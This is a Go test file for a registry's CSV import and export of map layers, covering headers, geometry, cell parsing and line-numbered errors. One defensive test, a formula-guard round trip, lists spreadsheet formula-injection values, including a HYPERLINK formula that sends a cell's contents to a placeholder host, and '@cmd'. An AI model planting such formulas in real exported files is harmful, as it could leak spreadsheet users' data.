package registry

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"reflect"
	"strings"
	"testing"
)

// csvRows parses body as a CSV file of l and fails unless the file as a
// whole can be read.
func csvRows(t *testing.T, l *Layer, body string) *parsedFile {
	t.Helper()
	pf, err := l.parseCSV([]byte(body))
	if err != nil {
		t.Fatalf("parse: %v", err)
	}
	return pf
}

// decoded decodes row i of pf, failing the test on any fault.
func decoded(t *testing.T, l *Layer, pf *parsedFile, i int) *Input {
	t.Helper()
	r := pf.rows[i]
	if len(r.errs) > 0 {
		t.Fatalf("row %d: %+v", i+1, r.errs)
	}
	in, err := l.Decode(r.feature)
	if err != nil {
		t.Fatalf("row %d: %v\n%s", i+1, err, r.feature)
	}
	return in
}

// rowErrors checks every row as an import does, without a database, and
// lists the faults as line:row:field.
func rowErrors(t *testing.T, l *Layer, pf *parsedFile) []string {
	t.Helper()
	rep := &ImportReport{}
	for i := range pf.rows {
		r := &pf.rows[i]
		if len(r.errs) > 0 {
			rep.Errors = append(rep.Errors, r.errs...)
			continue
		}
		if _, err := l.Decode(r.feature); err != nil {
			if err := rep.addProblemOrFail(pf, r, err); err != nil {
				t.Fatal(err)
			}
		}
	}
	var out []string
	for _, e := range rep.Errors {
		out = append(out, fmt.Sprintf("%d:%d:%s", e.Line, e.Row, e.Field))
	}
	return out
}

func TestCSVHeader(t *testing.T) {
	t.Run("server and computed columns are ignored, spaces trimmed", func(t *testing.T) {
		pf := csvRows(t, testSites, " id , lon,lat,name,kind,grade,version,updated_at\n9,87.41,43.47,一中,school,一级,4,2024-05-01T00:00:00Z\n")
		in := decoded(t, testSites, pf, 0)
		if in.Values["name"] != "一中" || in.ID != nil {
			t.Fatalf("values %+v id %s", in.Values, in.ID)
		}
		if _, ok := in.Values["grade"]; ok {
			t.Fatal("a computed column was taken")
		}
	})
	for _, c := range []struct{ name, header, field, say string }{
		{"an unknown column", "lon,lat,name,kind,colour", "colour", `未知列 "colour"`},
		{"a column twice", "lon,lat,name,name,kind", "name", "出现了两次"},
		{"缺少几何", "name,kind", "wkt", "缺少几何"},
		{"lon without lat", "lon,name,kind", "wkt", "缺少几何"},
		{"both wkt and lon/lat", "wkt,lon,lat,name,kind", "wkt", "不能同时给出"},
		{"lon/lat on a layer without points", "lon,lat,name", "lon", "wkt 列"},
		{"an empty file", "", "", "文件为空"},
	} {
		t.Run(c.name, func(t *testing.T) {
			l := testSites
			if strings.HasPrefix(c.name, "lon/lat on") {
				l = testAreas
			}
			body := c.header
			if body != "" {
				body += "\n"
			}
			_, err := l.parseCSV([]byte(body))
			p := problemOf(t, err, 400)
			got := ""
			if len(p.Errors) > 0 {
				got = p.Errors[0].Field
			}
			if got != c.field || !strings.Contains(p.Detail, c.say) {
				t.Fatalf("field %q detail %q, want %q and …%s…", got, p.Detail, c.field, c.say)
			}
		})
	}
	t.Run("not UTF-8", func(t *testing.T) {
		_, err := testSites.parseCSV([]byte("lon,lat,name,kind\n87.41,43.47,\xd2\xbb\xd6\xd0,school\n"))
		if p := problemOf(t, err, 400); !strings.Contains(p.Detail, "第 2 行") {
			t.Fatalf("detail %q does not name the line", p.Detail)
		}
	})
}

// A spreadsheet's byte-order mark is not part of the first column's name.
func TestCSVByteOrderMark(t *testing.T) {
	body := "lon,lat,name,kind\n87.41,43.47,一中,school\n"
	plain := decoded(t, testSites, csvRows(t, testSites, body), 0)
	bom := decoded(t, testSites, csvRows(t, testSites, "\xEF\xBB\xBF"+body), 0)
	if !reflect.DeepEqual(plain, bom) {
		t.Fatalf("with a BOM %+v, without %+v", bom, plain)
	}
}

func TestCSVGeometry(t *testing.T) {
	t.Run("lon and lat make a point", func(t *testing.T) {
		in := decoded(t, testSites, csvRows(t, testSites, "name,kind,lat,lon\n一中,school,43.47,87.41\n"), 0)
		if in.Geometry.GeoJSON != `{"type":"Point","coordinates":[87.41,43.47]}` {
			t.Fatalf("geometry %s", in.Geometry.GeoJSON)
		}
	})
	t.Run("wkt, with or without an SRID of 4326", func(t *testing.T) {
		pf := csvRows(t, testSites, "wkt,name,kind\n"+
			"POINT(87.41 43.47),一中,school\n"+
			"\"SRID=4326;POLYGON((87.4 43.4,87.5 43.4,87.5 43.5,87.4 43.4))\",二中,school\n")
		if got := decoded(t, testSites, pf, 0).Geometry.GeoJSON; got != `{"type":"Point","coordinates":[87.41,43.47]}` {
			t.Errorf("point %s", got)
		}
		if got := decoded(t, testSites, pf, 1).Geometry.GeoJSON; got != `{"type":"Polygon","coordinates":[[[87.4,43.4],[87.5,43.4],[87.5,43.5],[87.4,43.4]]]}` {
			t.Errorf("polygon %s", got)
		}
	})
	t.Run("bad geometry cells name their column", func(t *testing.T) {
		pf := csvRows(t, testSites, "wkt,name,kind\n"+
			"POINT(87.41),一中,school\n"+ // line 2: not WKT
			"SRID=3857;POINT(9730000 5390000),二中,school\n"+ // line 3: another SRID
			"\"LINESTRING(87 43,88 44)\",三中,school\n"+ // line 4: a type the layer does not take
			",四中,school\n") // line 5: no geometry
		want := []string{"2:1:wkt", "3:2:wkt", "4:3:wkt", "5:4:wkt"}
		if got := rowErrors(t, testSites, pf); !reflect.DeepEqual(got, want) {
			t.Fatalf("errors %v, want %v", got, want)
		}
		if d := pf.rows[1].errs[0].Detail; !strings.Contains(d, "SRID 3857") {
			t.Errorf("detail %q", d)
		}
	})
	t.Run("bad lon/lat cells name their column", func(t *testing.T) {
		pf := csvRows(t, testSites, "lon,lat,name,kind\n"+
			"87.41,abc,一中,school\n"+ // line 2: lat not a number
			"87.41,95,二中,school\n"+ // line 3: lat out of range
			"200,43.47,三中,school\n"+ // line 4: lon out of range
			",,四中,school\n") // line 5: neither
		want := []string{"2:1:lat", "3:2:lat", "4:3:lon", "5:4:lon,lat"}
		if got := rowErrors(t, testSites, pf); !reflect.DeepEqual(got, want) {
			t.Fatalf("errors %v, want %v", got, want)
		}
	})
}

func TestCSVCells(t *testing.T) {
	pf := csvRows(t, testSites, "lon,lat,name,kind,people,area_m2,open,opened_on,facilities,labels,code\n"+
		`87.41,43.47,一中,school,1200,1.5e3,TRUE,1998-09-01, water ; power ;;,"[""a;b"",""c""]",`+"\n")
	in := decoded(t, testSites, pf, 0)
	want := map[string]any{"people": int64(1200), "area_m2": 1500.0, "open": true, "opened_on": "1998-09-01",
		"facilities": []string{"water", "power"}, "labels": []string{"a;b", "c"}, "code": nil}
	for k, v := range want {
		if !reflect.DeepEqual(in.Values[k], v) {
			t.Errorf("%s = %#v, want %#v", k, in.Values[k], v)
		}
	}
}

// A cell whose syntax is wrong for its column is checked by Decode, in the
// same words as the JSON API uses.
func TestCSVBadCellsSayWhatJSONSays(t *testing.T) {
	pf := csvRows(t, testSites, "lon,lat,name,kind,people,open\n87.41,43.47,一中,school,\"1,200\",yes\n")
	_, err := testSites.Decode(pf.rows[0].feature)
	p := problemOf(t, err, 422)
	if got := fieldsOf(p); !reflect.DeepEqual(got, []string{"/properties/open", "/properties/people"}) {
		t.Fatalf("fields %v", got)
	}
	if want := []string{"2:1:people", "2:1:open"}; !reflect.DeepEqual(rowErrors(t, testSites, pf), want) {
		t.Fatalf("errors %v, want %v", rowErrors(t, testSites, pf), want)
	}
}

func TestCSVLineAndPointCells(t *testing.T) {
	pf := csvRows(t, testDepots, "lon,lat,name,stock,last_position\n"+
		`87.41,43.47,库,"[{""item"":""水"",""quantity"":10,""unit"":""t""}]",POINT(87.5 43.5)`+"\n"+
		`87.41,43.47,库,,"{""type"":""Point"",""coordinates"":[87.6,43.6]}"`+"\n"+
		`87.41,43.47,库,[{item:水}],`+"\n"+ // line 4: not JSON
		`87.41,43.47,库,"[{""item"":""水"",""quantity"":-1}]",`+"\n") // line 5: a bad line member
	in := decoded(t, testDepots, pf, 0)
	if want := []Line{{"item": "水", "quantity": 10.0, "unit": "t"}}; !reflect.DeepEqual(in.Values["stock"], want) {
		t.Errorf("stock %#v", in.Values["stock"])
	}
	if got := in.Values["last_position"]; got != `{"type":"Point","coordinates":[87.5,43.5]}` {
		t.Errorf("WKT last_position %v", got)
	}
	if got := decoded(t, testDepots, pf, 1).Values["last_position"]; got != `{"type":"Point","coordinates":[87.6,43.6]}` {
		t.Errorf("GeoJSON last_position %v", got)
	}
	want := []string{"4:3:stock", "5:4:stock/0/quantity"}
	if got := rowErrors(t, testDepots, pf); !reflect.DeepEqual(got, want) {
		t.Fatalf("errors %v, want %v", got, want)
	}
}

// Line numbers are the file's physical lines: a quoted cell spanning lines
// moves the rows after it; a row with a cell too few is named on its line.
func TestCSVLineNumbers(t *testing.T) {
	pf := csvRows(t, testSites, "lon,lat,name,kind,labels\n"+
		"87.41,43.47,一中,school,\n"+ // line 2
		"87.41,43.47,\"二\n中\",school,\n"+ // lines 3-4
		"87.41,43.47,三中,castle,\n"+ // line 5: bad kind
		"87.41,43.47,四中,school\n"+ // line 6: a cell short
		"\n"+ // a blank line is skipped
		"87.41,43.47,五中,school,\"a;\n\nb;a\"\n") // lines 8-10: a tag listed twice
	if len(pf.rows) != 5 {
		t.Fatalf("%d rows, want 5", len(pf.rows))
	}
	want := []string{"5:3:kind", "6:4:", "8:5:labels/2"}
	if got := rowErrors(t, testSites, pf); !reflect.DeepEqual(got, want) {
		t.Fatalf("errors %v, want %v", got, want)
	}
	if d := pf.rows[3].errs[0].Detail; d != "有 4 个单元格，表头有 5 列" {
		t.Errorf("detail %q", d)
	}
	if got := decoded(t, testSites, pf, 1).Values["name"]; got != "二\n中" {
		t.Errorf("name %q", got)
	}
}

// What export writes, import reads back exactly, text a spreadsheet would
// run as a formula included.
func TestCSVFormulaGuardRoundTrip(t *testing.T) {
	names := []string{`=HYPERLINK("http://x/?"&B2,"详情")`, "+86 991", "-5℃", "@cmd", "'quoted", "'=twice", "plain"}
	var buf bytes.Buffer
	w := csv.NewWriter(&buf)
	if err := w.Write([]string{"lon", "lat", "name", "kind", "labels"}); err != nil {
		t.Fatal(err)
	}
	for _, n := range names {
		name, err := csvCell(Field{Kind: Text}, mustJSON(t, n), "")
		if err != nil {
			t.Fatal(err)
		}
		labels, err := csvCell(Field{Kind: Tags}, mustJSON(t, []string{n, "x"}), "")
		if err != nil {
			t.Fatal(err)
		}
		if n != "plain" && (name == n || name[0] != '\'') {
			t.Errorf("cell %q for %q is not guarded", name, n)
		}
		if err := w.Write([]string{"87.41", "43.47", name, "school", labels}); err != nil {
			t.Fatal(err)
		}
	}
	w.Flush()
	pf := csvRows(t, testSites, buf.String())
	for i, n := range names {
		in := decoded(t, testSites, pf, i)
		if in.Values["name"] != n {
			t.Errorf("name %q came back as %q", n, in.Values["name"])
		}
		if want := []string{n, "x"}; !reflect.DeepEqual(in.Values["labels"], want) {
			t.Errorf("labels %q came back as %q", want, in.Values["labels"])
		}
	}
}

// A quoting error is a 400 naming its line, never a crash: the reader has no
// record to ask the position of after such an error.
func TestCSVQuotingErrorIsAClientError(t *testing.T) {
	for _, body := range []string{
		"lon,lat,name,kind\n87.41,43.47,a\"b,school\n",         // a quote in an unquoted cell
		"lon,lat,name,kind\n87.41,43.47,\"一中,school\n",         // a quoted cell never closed
		"lon,lat,name,kind\n87.41,43.47,\"一中\"x,school\n",      // text after the closing quote
		"lon,lat,\"name,kind\n",                                // the header itself
		"lon,lat,name,kind\n87.41,43.47,一中,school\n\"\n",       // a lone quote on the last line
		"lon,lat,name,kind\n87.41,43.47,一中,school,extra,\"x\n", // wrong width and an open quote
	} {
		_, err := testSites.parseCSV([]byte(body))
		if p := problemOf(t, err, 400); !strings.Contains(p.Detail, "行") {
			t.Errorf("%q: %q does not name the line", body, p.Detail)
		}
	}
}

// A NUL in a cell is named at its row and column, like any other bad cell.
func TestCSVNULCell(t *testing.T) {
	pf := csvRows(t, testSites, "lon,lat,name,kind\n87.41,43.47,一\x00中,school\n")
	if got, want := rowErrors(t, testSites, pf), []string{"2:1:name"}; !reflect.DeepEqual(got, want) {
		t.Fatalf("errors %v, want %v", got, want)
	}
}
